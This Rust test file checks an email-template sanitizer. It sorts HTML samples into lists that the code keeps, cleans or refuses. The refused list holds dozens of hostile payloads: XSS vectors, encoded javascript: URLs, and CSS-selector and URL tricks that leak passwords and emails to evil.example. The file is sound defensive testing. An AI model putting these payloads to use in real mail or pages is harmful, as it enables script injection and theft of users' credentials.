//! Kinds of HTML that people bring, by what becomes of them.

use reinvite_domain::Variant;
use reinvite_mail::{LocatedDefect, check_variant, clean_html};

use crate::{secrecy, template};

/// HTML that is stored as it came.
const KEPT: &[&str] = &[
    "<!--[if !mso 9]><!--><p>x</p><!--<![endif]-->",
    "<![if !mso]><p>x</p><![endif]>",
    "<p><![if !supportLists]><span>1.</span><![endif]>x</p>",
    "<p><!--[if !supportLists]--><span>1.</span><!--[endif]-->x</p>",
    r#"<!--[if (gte mso 9)|(IE)]><table width="600"><tr><td><![endif]--><div>x</div><!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]-->"#,
    "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->",
    "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom><w:DontUseAdvancedTypographyReadingMail/></w:WordDocument></xml><![endif]-->",
    r##"<!--[if gte mso 9]><v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true" stroke="false" style="width:600px;height:300px"><v:fill type="tile" src="https://example.com/bg.png" color="#7bceeb" /><v:textbox inset="0,0,0,0"><![endif]--><div>x</div><!--[if gte mso 9]></v:textbox></v:rect><![endif]-->"##,
    r#"<!--[if mso]><v:image src="https://example.com/a.png" style="width:10px;height:10px"/><![endif]-->"#,
    r#"<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026"/></xml><![endif]--><!--[if gte mso 9]><xml><o:shapelayout v:ext="edit"><o:idmap v:ext="edit" data="1"/></o:shapelayout></xml><![endif]-->"#,
    r#"<noscript><img src="https://example.com/a.png" alt=""></noscript>"#,
    r#"<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">Hello {{ user.name }} &#847;&zwnj;&nbsp;</div>"#,
    "<p hidden>x</p>",
    "<p><bdi>{{ user.name }}</bdi></p>",
    r#"<img src="https://example.com/a.png" loading="lazy" alt="{{ user.name }}">"#,
    r##"<body link="#00f" vlink="#00f" alink="#f00" bgcolor="#fff"><p>x</p></body>"##,
    "<style>.a{*zoom:1} /* a & b */ td > p{margin:0} a[href]{color:red}</style>",
    r#"<style>a[x-apple-data-detectors]{color:inherit!important} a[href^="mailto:"],a[href^='sms']{color:inherit}</style>"#,
    "<style>@media (prefers-color-scheme:dark){.x{background:#000!important}} [data-ogsc] .x{color:#fff} :root{color-scheme:light dark}</style>",
    "<p style='font-family:&#39;Segoe UI&#39;,Arial;color:#111'>x</p>",
    r#"<a href="https://example.com/?a=1&b=2&copy=3">x</a>"#,
    r#"<a href="{{ login_url }}?a=1#b">x</a>"#,
    r#"<a href="{{login_url}}#top">x</a>"#,
    r#"<a href=" {{ login_url }}">x</a>"#,
    r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="">"#,
    r#"<a href="mailto:help@example.com?subject=Hi">x</a><a href="tel:+81312345678">y</a>"#,
    r#"<table background="https://example.com/a.png"><tr><td background="https://example.com/b.png">x</td></tr></table>"#,
    r#"<p style="background-image:image-set('https://example.com/a.png' 1x,'https://example.com/b.png' 2x)">x</p>"#,
    r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html xmlns="http://www.w3.org/1999/xhtml" xmlns:o="urn:schemas-microsoft-com:office:office" lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"><title>Hi</title></head>"#,
    "<p>Room {{ user.attributes.room | default('-') }}</p>",
    "<p>Room {{ user.attributes.room }}</p>",
    r#"<img src="https://example.com/a.png" alt="{{ user.attributes.room | default('x') }}">"#,
    "<p>{{ note }}</p>{% if note %}<b>{{ note }}</b>{% endif %}",
    r#"{% if password_change == 'set_link' %}<a href="{{ invitation_url }}">x</a>{% endif %}"#,
    "{% if password_change == 'temporary' %}<b>{{ password }}</b>{% endif %}",
    "{% if password_change == 'temporary' %}<!--[if mso]><b>{{ password }}</b><![endif]--><!--[if !mso]><!--><i>{{ password }}</i><!--<![endif]-->{% endif %}",
    "<style>\n<!--\n /* Font Definitions */\n @font-face\n\t{font-family:\"Cambria Math\";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n p.MsoNormal\n\t{margin:0cm;}\n-->\n</style>",
    "<!--[if !mso]><style>v\\:*{behavior:url(#default#VML);}\no\\:*{behavior:url(#default#VML);}</style><![endif]-->",
    "<style>:root{--c:#1e3650} a{color:var(--c)}</style>",
    r#"<style>td:before{content:attr(data-label)}</style><table><tr><td data-label="Name">x</td></tr></table>"#,
    "<style>:lang(ja){font-family:Meiryo} [dir=rtl] td{text-align:right}</style>",
    r#"<time datetime="2026-01-01">1 Jan</time><details open><summary>x</summary>y</details>"#,
    r##"<img src="https://example.com/a.png" usemap="#m" alt=""><map name="m"><area shape="rect" coords="0,0,1,1" href="{{ login_url }}" alt=""></map>"##,
    r#"<p style="background:\75 rl(https://example.com/a.png)">x</p>"#,
    "{% for g in user.groups %}<li>{{ g }}</li>{% endfor %}{# note to self #}",
];

/// HTML that is stored without the parts that do nothing in a mail.
const CLEANED: &[&str] = &[
    r#"<link href="https://fonts.googleapis.com/css2?family=Lato" rel="stylesheet">"#,
    "<style>@font-face{font-family:X;src:url(https://example.com/x.woff2) format('woff2')} p{margin:0}</style>",
    "<!--[if mso]><style>@import url(https://example.com/x.css);</style><![endif]-->",
    r#"<!--[if !mso]><!--><link href="https://fonts.example.com/css" rel="stylesheet"><style>@import url(https://fonts.example.com/css);</style><!--<![endif]-->"#,
    "<style>@import 'https://example.com/x.css' screen;p{margin:0}</style>",
    r"<style>@\69mport url(https://example.com/x.css);p{margin:0}</style>",
    r#"<script type='application/ld+json'>{"a":"<b>"}</script>"#,
    r#"<SCRIPT TYPE="APPLICATION/LD+JSON">{}</SCRIPT>"#,
    r#"<td background="http://example.com/a.png">x</td>"#,
    r#"<p style="background:url(http://example.com/a.png)">x</p>"#,
    "<style>p{background:url('http://example.com/a.png')}</style>",
    r#"<!--[if mso]><v:fill src="http://example.com/a.png"/><![endif]-->"#,
    r#"<multiline label="Body"><p>x</p></multiline>"#,
    "<layout label='x'><table><tr><td>x</td></tr></table></layout>",
    "<!--[if mso]><x-y>x</x-y><![endif]-->",
    r#"<table mc:repeatable="row" mc:variant="v" width="1"><tr><td editable data-x=1 fr-original-style="">x</td></tr></table>"#,
    r#"<img src="https://example.com/a.png" alt="" mc:edit>"#,
    r#"<img src="http://example.com/1.png"><img src="http://example.com/2.png"><p style='background:url(http://example.com/3.png)'>x</p>"#,
    r#"<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>"#,
    r#"<img src="HTTP://example.com/a.png" alt="">"#,
    "<img src=http://example.com/a.png alt=x>",
    "<p>{{ user.name }}<foo>x</foo>{{ user.name }}</p>",
    "<noscript><foo>x</foo></noscript>",
];

/// HTML that is refused, with or without cleaning.
const REFUSED: &[&str] = &[
    r#"<script src="https://evil.example/x.js"></script>"#,
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<math><mtext></mtext></math>",
    r#"<iframe src="https://evil.example"></iframe>"#,
    r#"<form action="https://evil.example"><input name=a></form>"#,
    "<input type=text>",
    r#"<button formaction="https://evil.example">x</button>"#,
    r#"<object data="https://evil.example/a.swf"></object>"#,
    r#"<embed src="https://evil.example">"#,
    r#"<video poster="https://evil.example/{{ user.email }}"></video>"#,
    "<select><option>x</option></select>",
    "<template><p>x</p></template>",
    "<textarea>x</textarea>",
    "<xmp>x</xmp>",
    "<plaintext>",
    r#"<!--[if mso]><base href="https://evil.example/"><![endif]-->"#,
    r#"<meta http-equiv="Refresh" content="0;url=https://evil.example">"#,
    r#"<meta http-equiv="re&#102;resh" content="0">"#,
    r#"<meta http-equiv="Content-Security-Policy" content="x">"#,
    r#"<img src="https://evil.example/{{ user.attributes.room }}.png">"#,
    r#"<!--[if mso]><v:imagedata src="https://evil.example/{{ user.email }}"/><![endif]-->"#,
    r#"<!--[if mso]><v:rect href="https://evil.example/?{{ user.email }}">x</v:rect><![endif]-->"#,
    r#"<!--[if mso]><v:fill src="{{ login_url }}/a.png"/><![endif]-->"#,
    r#"<!--[if mso]><v:rect href="javascript:alert(1)">x</v:rect><![endif]-->"#,
    r#"<!--[if mso]><v:imagedata o:href="https://evil.example/a"/><![endif]-->"#,
    r#"<!--[if mso]><v:fill o:althref="https://evil.example/a"/><![endif]-->"#,
    r#"<!--[if mso]><v:textpath string="{{ password }}"/><![endif]-->"#,
    r#"<p style="color:{{ user.attributes.colour }}">x</p>"#,
    "<style>p{color:{{ user.attributes.colour }}}</style>",
    "<style>{% if attempt > 1 %}p{color:red}{% endif %}</style>",
    "<!-- {{ user.email }} -->",
    r#"<p class="{{ user.name }}">x</p>"#,
    r#"<p id="{{ user.login_id }}">x</p>"#,
    r#"<p data-x="{{ user.email }}">x</p>"#,
    r#"<p title="{{ password }}">x</p>"#,
    "<title>{{ password }}</title>",
    r#"<img src="https://example.com/a.png" alt="{{ password }}">"#,
    "<p hidden><script>x</script></p>",
    r#"<a href="https://{{ user.login_id }}.evil.example/">x</a>"#,
    r#"<a href="{{ login_url }}/path">x</a>"#,
    r#"<a href="{{ login_url }}@evil.example/">x</a>"#,
    r#"<a href="{{ login_url }}.evil.example">x</a>"#,
    r#"<a href="{{ login_url }}?u={{ user.email }}">x</a>"#,
    r#"<a href="{{ invitation_url }}?a=1">x</a>"#,
    r#"<a href="https://evil.example/?{{ login_url }}">x</a>"#,
    r#"<a href="{{ user.attributes.site }}">x</a>"#,
    r#"<a href="%7b%7blogin_url%7d%7d">x</a>"#,
    r#"<a href="&#123;&#123; login_url &#125;&#125;">x</a>"#,
    r#"<a href="http://%7B%7Blogin_url%7D%7D">x</a>"#,
    r#"<a href="https://{{ login_url }}">x</a>"#,
    r#"<a href="https://example.com/%7B%7B%20invitation_url%20%7D%7D">x</a>"#,
    "<style>a[href*='ab']{color:red}</style>",
    "<style>a[href$='ab']{background:url(https://evil.example/ab)}</style>",
    "<style>@media screen{:is(p,a:not([HREF*=a])) b{background:url(https://evil.example/a)}}</style>",
    r"<style>a[\68 ref*=x]{color:red}</style>",
    "<style>p{a&[href^='https://x']{color:red}}</style>",
    "<style>p:has(a[href*=x]){background:url(https://evil.example/)}</style>",
    "<!--[if mso]><style>a[href*=x]{color:red}</style><![endif]-->",
    "<noscript><style>a[href*=x]{color:red}</style></noscript>",
    "<style>p[title^=a]{background:url(https://evil.example/a)}</style>",
    "<style>img[alt^='A']{background:url(https://evil.example/a)}</style>",
    "<style>img[src*=a]{color:red}</style>",
    r#"<p style="width:expression(alert(1))">x</p>"#,
    r#"<p style="behavior:url(x.htc)">x</p>"#,
    r#"<p style="-moz-binding:url(https://evil.example/x#y)">x</p>"#,
    r#"<p style="background:\75\72\6c(javascript:alert(1))">x</p>"#,
    r#"<p style="background:u\000072l(javascript:x)">x</p>"#,
    r#"<p style="background:&#117;rl(//evil.example/a)">x</p>"#,
    r"<style>p{background:\55RL('ftp://evil.example/a')}</style>",
    "<style>p{--u:url(javascript:x);background:var(--u)}</style>",
    "<style>p{background:image-set(attr(title) 1x)}</style>",
    r#"<!--[if mso]><a href="https://evil.example/?<![endif]-->{{ user.name }}<!--[if mso]>">x</a><![endif]-->"#,
    r#"<!--[if mso]><p title="<![endif]--><p>x</p>"#,
    "<!--[if mso]><style><![endif]--><p>x</p><!--[if mso]></style><![endif]-->",
    "<!--[if mso]><!-- <![endif]--><p>x</p>",
    "<!--[if mso]><title><![endif]--><p>x</p><!--[if mso]></title><![endif]-->",
    r#"<a href="https://evil.example/<!--[if mso]>x<![endif]-->">x</a>"#,
    "<style>p{margin:0}<!--[if mso]>td{color:red}<![endif]--></style>",
    "<title><!--[if mso]>x<![endif]--></title>",
    "<p <![if !mso]> title=x<![endif]>>x</p>",
    "<!--[if !mso]><!--><p>x</p>",
    "<p>x</p><![endif]-->",
    "<!--[if mso]><p>x</p>-->",
    "<!--[if {{ user.name }}]>x<![endif]-->",
    "<!--[if mso]><img src='https://evil.example/?<![endif]-->{% if password_change == 'temporary' %}{{ password }}{% endif %}'>",
    "<p>{<foo></foo>{ password }}</p>",
    "<p>{<foo a=b>{ user.name }<bar></bar>}</p>",
    "<p>{<foo></foo>% if x %}</p>",
    "<<foo>script>alert(1)</script>",
    "<noscript>{{ password }}</noscript>",
    "<!-- {{ password }} -->",
    "<!-- [if x] {{ password }} -->",
    "<p>https://evil.example/?{{ password }}</p>",
    "<p>https://evil.example/?<!--[if mso]>{{ password }}<![endif]--></p>",
    "<p>https://evil.example/?<!--[if mso]><![endif]-->{{ password }}</p>",
    "<p>x</p {{ password }}>",
    "<p>{{ user.attributes }}</p>",
    "<p>{% for a in user.attributes %}{{ a }}{% endfor %}</p>",
    "<p>{{ .Subscriber.Name }}</p>",
    "<p>{{ subscriber.name }}</p>",
    r#"<a title={{user.name}} href="https://example.com/">x</a>"#,
    r#"<img alt={{user.attributes.room}} src="https://example.com/a.png">"#,
    r#"<!DOCTYPE html SYSTEM "https://evil.example/{{ user.email }}">"#,
    r#"<!DOCTYPE html SYSTEM "https://evil.example/{{ password }}">"#,
    r#"<?xml version="{{ user.email }}"?>"#,
    r#"<!-- x --!><p title="--><img src='https://evil.example/'>{{ user.email }}">x</p>"#,
    r#"<!--><p title="-->{{ user.email }}">x</p>"#,
    r#"<!---><p title="-->{{ user.email }}">x</p>"#,
    "<p>x</p><!-- ",
    "<style>p{}",
    r#"<img src="//evil.example/a.png">"#,
    r#"<img src="data:image/svg+xml;base64,PHN2Zz4=">"#,
    r#"<a ping="https://evil.example" href="{{ login_url }}">x</a>"#,
    r#"<img srcset="https://evil.example/a.png 1x" src="https://example.com/a.png">"#,
    r#"<link rel=stylesheet href="https://evil.example/{{ user.email }}">"#,
    "<style>@import url(https://evil.example/{{ user.email }});</style>",
    r#"<foo a="{{ user.email }}">x</foo>"#,
    "<a href=\"java\tscript:alert(1)\">x</a>",
    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
    r#"<a href="data:text/html,x">x</a>"#,
    r#"<p style="background:url(file:///x)">x</p>"#,
    r#"<meta name="description" content="{{ user.email }}">"#,
    "<marquee onstart=alert(1)>x</marquee>",
    r#"<p is="x-y">x</p>"#,
    "<p slot=x>x</p>",
    r"<!--[if mso]><style>v\:rect[href*=x]{color:red}</style><![endif]-->",
    r#"<link rel=import href="{{ login_url }}">"#,
];

/// A template with a link to log in beside the HTML.
fn beside_a_link(html: &str) -> Variant {
    let html = format!("<p>あ</p>\n {html}<p><a href=\"{{{{ login_url }}}}\">Log in</a></p>");
    template("s", &html, "{{ login_url }}")
}

fn findings(variant: &Variant) -> Vec<LocatedDefect> {
    check_variant("", &"en".parse().unwrap(), variant)
        .err()
        .unwrap_or_default()
}

fn cleaned(variant: &Variant) -> Variant {
    Variant {
        html: clean_html(&variant.html).html,
        ..variant.clone()
    }
}

#[test]
fn harmless_kinds_are_kept_and_leak_nothing() {
    for html in KEPT {
        let variant = beside_a_link(html);
        assert_eq!(findings(&variant), [], "{html}");
        assert_eq!(cleaned(&variant), variant);
        assert!(secrecy::find_leak(&variant).is_ok(), "{html}");
    }
}

#[test]
fn kinds_that_do_nothing_are_cleaned_with_the_place_of_each_part() {
    for html in CLEANED {
        let variant = beside_a_link(html);
        let found = findings(&variant);
        let is_placed = |finding: &LocatedDefect| {
            finding.cleanable && finding.position.is_some_and(|position| position.line > 1)
        };
        assert!(
            !found.is_empty() && found.iter().all(is_placed),
            "{html}: {found:?}"
        );
        assert_eq!(findings(&cleaned(&variant)), [], "{html}");
        assert!(secrecy::find_leak(&cleaned(&variant)).is_ok(), "{html}");
    }
}

#[test]
fn dangerous_kinds_are_refused_with_the_place_of_each_part() {
    for html in REFUSED {
        let variant = beside_a_link(html);
        let left = findings(&cleaned(&variant));
        assert!(left.iter().any(|finding| !finding.cleanable), "{html}");

        for finding in findings(&variant) {
            let column = finding.position.and_then(|position| position.column);
            assert!(column.is_some(), "{html}: {finding:?}");
        }
    }
}
